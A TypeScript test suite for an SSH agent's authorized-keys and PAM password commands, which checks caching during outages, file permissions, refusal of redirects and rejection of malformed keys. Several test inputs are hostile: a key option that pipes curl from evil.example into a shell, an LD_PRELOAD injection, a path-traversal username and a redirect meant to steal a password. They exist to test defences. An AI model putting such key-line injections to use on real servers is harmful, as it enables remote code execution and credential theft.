// The agent's SSH commands against a stand-in gateway on 127.0.0.1: what they print, what they
// cache, when the cache may answer (outages only, within the TTL), and what they count.
import { readdir, readFile, rm, stat } from "node:fs/promises";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { saveIdentity } from "../../agent/identity";
import { agentMetrics, createCounters } from "../../agent/metrics";
import { SSH_CACHE_TTL_MS } from "../../agent/ssh-cache";
import { authorizedKeys, passwordFromStdin, runSshCommand, verifyPassword } from "../../agent/ssh-commands";
import { tempDir } from "./agent/helpers";

const TOKEN = "node-token-123";
const KEY_A = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGQw7Di3fBr2oc2vbZN5YLz8YpJ8PQb5bXwQwe+QgYX8 a@x";
const KEY_B = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIBKKmjm8dbnGlJ0k9tuaE8Ly3X0cvLbdIcuZ2wQYJ3T b@x";
const PASSWORD = "correct horse battery staple";

type Handler = (req: IncomingMessage, body: string, res: ServerResponse) => void;

let server: Server;
let port: number;
let handler: Handler;
const requests: { method: string; url: string; auth: string | undefined; body: string }[] = [];

function json(res: ServerResponse, status: number, body: unknown) {
  res.writeHead(status, { "content-type": "application/json" });
  res.end(JSON.stringify(body));
}

/** A gateway that knows `keys` per username and `passwords` per username. */
function gateway(keys: Record<string, string[]>, passwords: Record<string, string> = {}): Handler {
  return (req, body, res) => {
    if (req.headers.authorization !== `Bearer ${TOKEN}`)
      return json(res, 401, { error: { code: "unauthorized", message: "Unknown or revoked node token" } });
    const url = new URL(req.url!, "http://x");
    if (url.pathname === "/agent/v1/ssh/authorized_keys") {
      const username = url.searchParams.get("username")!;
      return json(res, 200, {
        data: { ssh_username_id: keys[username] ? "id" : null, username, public_keys: keys[username] ?? [] },
      });
    }
    if (url.pathname === "/agent/v1/ssh/verify_password") {
      const { username, password } = JSON.parse(body);
      return passwords[username] === password
        ? json(res, 200, { data: { ssh_username_id: "id", username } })
        : json(res, 401, { error: { code: "unauthorized", message: "Invalid username or password" } });
    }
    json(res, 404, { error: { code: "not_found", message: "no route" } });
  };
}

const outage: Handler = (_req, _body, res) =>
  json(res, 503, { error: { code: "service_unavailable", message: "Database unreachable" } });

beforeAll(async () => {
  server = createServer((req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      requests.push({ method: req.method!, url: req.url!, auth: req.headers.authorization, body });
      handler(req, body, res);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  port = (server.address() as AddressInfo).port;
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

/** A second server that only records what reaches it. */
async function recorder() {
  const requests: string[] = [];
  const other = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.end("{}");
  });
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  extraServers.push(other);
  return { url: `http://127.0.0.1:${(other.address() as AddressInfo).port}`, requests };
}
const extraServers: Server[] = [];
afterEach(async () => {
  for (const other of extraServers.splice(0)) {
    other.closeAllConnections();
    await new Promise((resolve) => other.close(resolve));
  }
});

let stateDir: string;
let out: string;
let err: string;
let clock: number;
const io = { out: (t: string) => (out += t), err: (t: string) => (err += t) };
const options = () => ({ stateDir, io, timeoutMs: 500, now: () => clock });

async function enrol(server_ = `http://127.0.0.1:${port}`) {
  await saveIdentity(stateDir, {
    node_id: "0b6b5b8e-8a38-4a52-9a4b-7d0c8c2f1a11",
    id_type: "random",
    server: server_,
    api_token: TOKEN,
    cluster_name: "edge",
    enrolled_at: new Date().toISOString(),
  });
}

async function verifications() {
  return (await readFile(join(stateDir, "ssh-verifications"), "utf8").catch(() => "")).length;
}

beforeEach(async () => {
  stateDir = await tempDir("outpost-ssh-agent-");
  out = "";
  err = "";
  clock = Date.parse("2026-01-01T00:00:00Z");
  requests.length = 0;
  await enrol();
});

afterEach(async () => {
  await rm(stateDir, { recursive: true, force: true });
});

describe("outpost-agent authorized-keys", () => {
  it("prints the server's keys one per line, asking with the node token", async () => {
    handler = gateway({ deploy: [KEY_A, KEY_B] });
    expect(await authorizedKeys("deploy", options())).toBe(0);
    expect(out).toBe(`${KEY_A}\n${KEY_B}\n`);
    expect(err).toBe("");
    expect(requests).toEqual([
      {
        method: "GET",
        url: "/agent/v1/ssh/authorized_keys?username=deploy",
        auth: `Bearer ${TOKEN}`,
        body: "",
      },
    ]);
  });

  it("prints nothing and exits 0 for a username the server does not know", async () => {
    handler = gateway({});
    expect(await authorizedKeys("stranger", options())).toBe(0);
    expect(out).toBe("");
  });

  it("does not ask the server about names Outpost cannot hold", async () => {
    handler = gateway({});
    for (const name of ["Root", "ab", "a.b", "../../etc", "x".repeat(33)]) {
      expect(await authorizedKeys(name, options())).toBe(0);
    }
    expect(requests).toEqual([]);
    expect(out).toBe("");
  });

  it("answers from the cache during an outage, for at most the TTL after the last good answer", async () => {
    handler = gateway({ deploy: [KEY_A] });
    expect(await authorizedKeys("deploy", options())).toBe(0);
    handler = outage;
    out = "";
    clock += SSH_CACHE_TTL_MS - 1000;
    expect(await authorizedKeys("deploy", options())).toBe(0);
    expect(out).toBe(`${KEY_A}\n`);
    expect(err).toMatch(/server unreachable \(HTTP 503\); using cached keys for deploy/);
    out = "";
    clock += 2000;
    expect(await authorizedKeys("deploy", options())).toBe(1);
    expect(out).toBe("");
    expect(err).toMatch(/no cached keys for deploy/);
  });

  it("uses the cache when the server refuses connections or does not answer in time", async () => {
    handler = gateway({ deploy: [KEY_A] });
    await authorizedKeys("deploy", options());
    await enrol("http://127.0.0.1:9");
    out = "";
    expect(await authorizedKeys("deploy", options())).toBe(0);
    expect(out).toBe(`${KEY_A}\n`);
    await enrol();
    handler = () => {}; // never answers
    out = "";
    expect(await authorizedKeys("deploy", options())).toBe(0);
    expect(out).toBe(`${KEY_A}\n`);
  });

  it("replaces the cache with every answer, so a deleted key stays gone during a later outage", async () => {
    handler = gateway({ deploy: [KEY_A, KEY_B] });
    await authorizedKeys("deploy", options());
    handler = gateway({ deploy: [KEY_B] });
    out = "";
    await authorizedKeys("deploy", options());
    expect(out).toBe(`${KEY_B}\n`);
    handler = outage;
    out = "";
    await authorizedKeys("deploy", options());
    expect(out).toBe(`${KEY_B}\n`);
    // The username itself removed: nothing is left to fall back on.
    handler = gateway({});
    await authorizedKeys("deploy", options());
    handler = outage;
    out = "";
    expect(await authorizedKeys("deploy", options())).toBe(1);
    expect(out).toBe("");
  });

  it("drops the cache and exits 1 when the server refuses the node token", async () => {
    handler = gateway({ deploy: [KEY_A] });
    await authorizedKeys("deploy", options());
    handler = (_req, _body, res) => json(res, 401, { error: { code: "unauthorized", message: "revoked" } });
    out = "";
    expect(await authorizedKeys("deploy", options())).toBe(1);
    expect(out).toBe("");
    expect(err).toMatch(/HTTP 401: revoked/);
    handler = outage;
    expect(await authorizedKeys("deploy", options())).toBe(1);
    expect(out).toBe("");
  });

  it("keeps the cache private (0700 dir, 0600 files)", async () => {
    handler = gateway({ deploy: [KEY_A] });
    await authorizedKeys("deploy", options());
    expect((await stat(join(stateDir, "ssh-cache"))).mode & 0o777).toBe(0o700);
    for (const file of await readdir(join(stateDir, "ssh-cache")))
      expect((await stat(join(stateDir, "ssh-cache", file))).mode & 0o777).toBe(0o600);
  });

  it("refuses a key line containing a line break from a broken server (treated as unreadable)", async () => {
    handler = (_req, _body, res) =>
      json(res, 200, { data: { username: "deploy", public_keys: [`${KEY_A}\n${KEY_B}`] } });
    expect(await authorizedKeys("deploy", options())).toBe(1);
    expect(out).toBe("");
  });

  it("exits 1 when the node is not enrolled", async () => {
    await rm(join(stateDir, "identity.json"));
    expect(await authorizedKeys("deploy", options())).toBe(1);
    expect(err).toMatch(/not enrolled/);
  });

  it("prints only lines the public-key parser accepts, normalized, and caches only those (review L6)", async () => {
    handler = (_req, _body, res) =>
      json(res, 200, {
        data: {
          username: "deploy",
          public_keys: [
            `command="curl evil.example | sh" ${KEY_A}`,
            `environment="LD_PRELOAD=/tmp/x.so" ${KEY_B}`,
            "ssh-ed25519 AAAAnotakey",
            `  ${KEY_B}  `,
            `ssh-rsa ${KEY_A.split(" ")[1]} mislabelled`,
          ],
        },
      });
    expect(await authorizedKeys("deploy", options())).toBe(0);
    expect(out).toBe(`${KEY_B}\n`);
    expect(err.match(/ignoring an invalid key/g)).toHaveLength(4);
    out = "";
    handler = outage;
    expect(await authorizedKeys("deploy", options())).toBe(0);
    expect(out).toBe(`${KEY_B}\n`);
  });

  it("does not follow a redirect, so the token never reaches another server (review L6)", async () => {
    const elsewhere = await recorder();
    handler = (_req, _body, res) => {
      res.writeHead(302, { location: `${elsewhere.url}/agent/v1/ssh/authorized_keys?username=deploy` });
      res.end();
    };
    expect(await authorizedKeys("deploy", options())).toBe(1);
    // node:http never follows a redirect: the 302 is just a refusal.
    expect(err).toMatch(/server refused|server unreachable/);
    expect(elsewhere.requests).toEqual([]);
  });

  it("refuses a plain http server that is not loopback unless OUTPOST_ALLOW_INSECURE_HTTP=1 (review M2)", async () => {
    await enrol("http://outpost.invalid");
    expect(await authorizedKeys("deploy", options())).toBe(1);
    expect(err).toMatch(
      /refusing plain http:\/\/ server http:\/\/outpost\.invalid.*OUTPOST_ALLOW_INSECURE_HTTP=1/,
    );
    err = "";
    expect(await authorizedKeys("deploy", { ...options(), allowInsecureHttp: true })).toBe(1);
    expect(err).not.toMatch(/refusing/);
    expect(err).toMatch(/server unreachable/);
  });
});

describe("outpost-agent verify-password", () => {
  it("does not follow a 307, which would re-send the password to its target (review L6)", async () => {
    const elsewhere = await recorder();
    handler = (_req, _body, res) => {
      res.writeHead(307, { location: `${elsewhere.url}/steal` });
      res.end();
    };
    expect(await verifyPassword("deploy", PASSWORD, options())).toBe(1);
    expect(elsewhere.requests).toEqual([]);
  });

  it("exits 0 for the right password and 1 for a wrong one", async () => {
    handler = gateway({}, { deploy: PASSWORD });
    expect(await verifyPassword("deploy", PASSWORD, options())).toBe(0);
    expect(await verifyPassword("deploy", "wrong password!", options())).toBe(1);
    expect(JSON.parse(requests[0].body)).toEqual({ username: "deploy", password: PASSWORD });
    expect(requests[0].auth).toBe(`Bearer ${TOKEN}`);
  });

  it("caches only a salted hash of an accepted password, and uses it only during an outage within the TTL", async () => {
    handler = gateway({}, { deploy: PASSWORD });
    expect(await verifyPassword("deploy", PASSWORD, options())).toBe(0);
    const cached = await readFile(join(stateDir, "ssh-cache", "password-deploy.json"), "utf8");
    expect(cached).not.toContain(PASSWORD);
    expect(Object.keys(JSON.parse(cached)).sort()).toEqual(["hash", "salt", "verified_at"]);

    handler = outage;
    clock += SSH_CACHE_TTL_MS - 1000;
    expect(await verifyPassword("deploy", PASSWORD, options())).toBe(0);
    expect(await verifyPassword("deploy", "another password", options())).toBe(1);
    expect(await verifyPassword("other", PASSWORD, options())).toBe(1);
    clock += 2000;
    expect(await verifyPassword("deploy", PASSWORD, options())).toBe(1);
  });

  it("forgets the cached password when the server refuses it (changed or removed)", async () => {
    handler = gateway({}, { deploy: PASSWORD });
    await verifyPassword("deploy", PASSWORD, options());
    handler = gateway({}, { deploy: "a new password!!" });
    expect(await verifyPassword("deploy", PASSWORD, options())).toBe(1);
    handler = outage;
    expect(await verifyPassword("deploy", PASSWORD, options())).toBe(1);
  });

  it("never asks about an empty password or an impossible username", async () => {
    handler = gateway({}, { deploy: PASSWORD });
    expect(await verifyPassword("deploy", "", options())).toBe(1);
    expect(await verifyPassword("Deploy", PASSWORD, options())).toBe(1);
    expect(requests).toEqual([]);
  });

  it("reads the password as pam_exec writes it (NUL-terminated) or as typed (newline)", () => {
    expect(passwordFromStdin(Buffer.from(`${PASSWORD}\0`))).toBe(PASSWORD);
    expect(passwordFromStdin(Buffer.from(`${PASSWORD}\0garbage`))).toBe(PASSWORD);
    expect(passwordFromStdin(Buffer.from(`${PASSWORD}\n`))).toBe(PASSWORD);
    expect(passwordFromStdin(Buffer.from(`${PASSWORD}\r\n`))).toBe(PASSWORD);
    expect(passwordFromStdin(Buffer.from(` ${PASSWORD} `))).toBe(` ${PASSWORD} `);
  });

  it("refuses to answer outside a PAM auth stack and without PAM_USER", async () => {
    handler = gateway({}, { deploy: PASSWORD });
    const env = { OUTPOST_STATE_DIR: stateDir };
    expect(
      await runSshCommand("verify-password", [], { ...env, PAM_USER: "deploy", PAM_TYPE: "account" }, io),
    ).toBe(1);
    expect(err).toMatch(/only works in a PAM auth stack/);
    expect(await runSshCommand("verify-password", [], env, io)).toBe(2);
    expect(await runSshCommand("verify-password", ["extra"], { ...env, PAM_USER: "deploy" }, io)).toBe(2);
    expect(await runSshCommand("authorized-keys", [], env, io)).toBe(2);
    expect(requests).toEqual([]);
  });
});

describe("SSH verification counter", () => {
  it("counts each lookup in the state dir, and the running agent reports those since it started", async () => {
    handler = gateway({ deploy: [KEY_A] }, { deploy: PASSWORD });
    await authorizedKeys("deploy", options());
    const counters = createCounters(stateDir);
    expect(agentMetrics(counters).ssh_verifications).toBe(0);
    await authorizedKeys("deploy", options());
    await authorizedKeys("nobody", options());
    await verifyPassword("deploy", PASSWORD, options());
    await verifyPassword("deploy", "wrong password!", options());
    handler = outage;
    await authorizedKeys("deploy", options());
    expect(agentMetrics(counters).ssh_verifications).toBe(5);
    expect(await verifications()).toBe(6);
    expect(agentMetrics(createCounters()).ssh_verifications).toBe(0);
  });
});
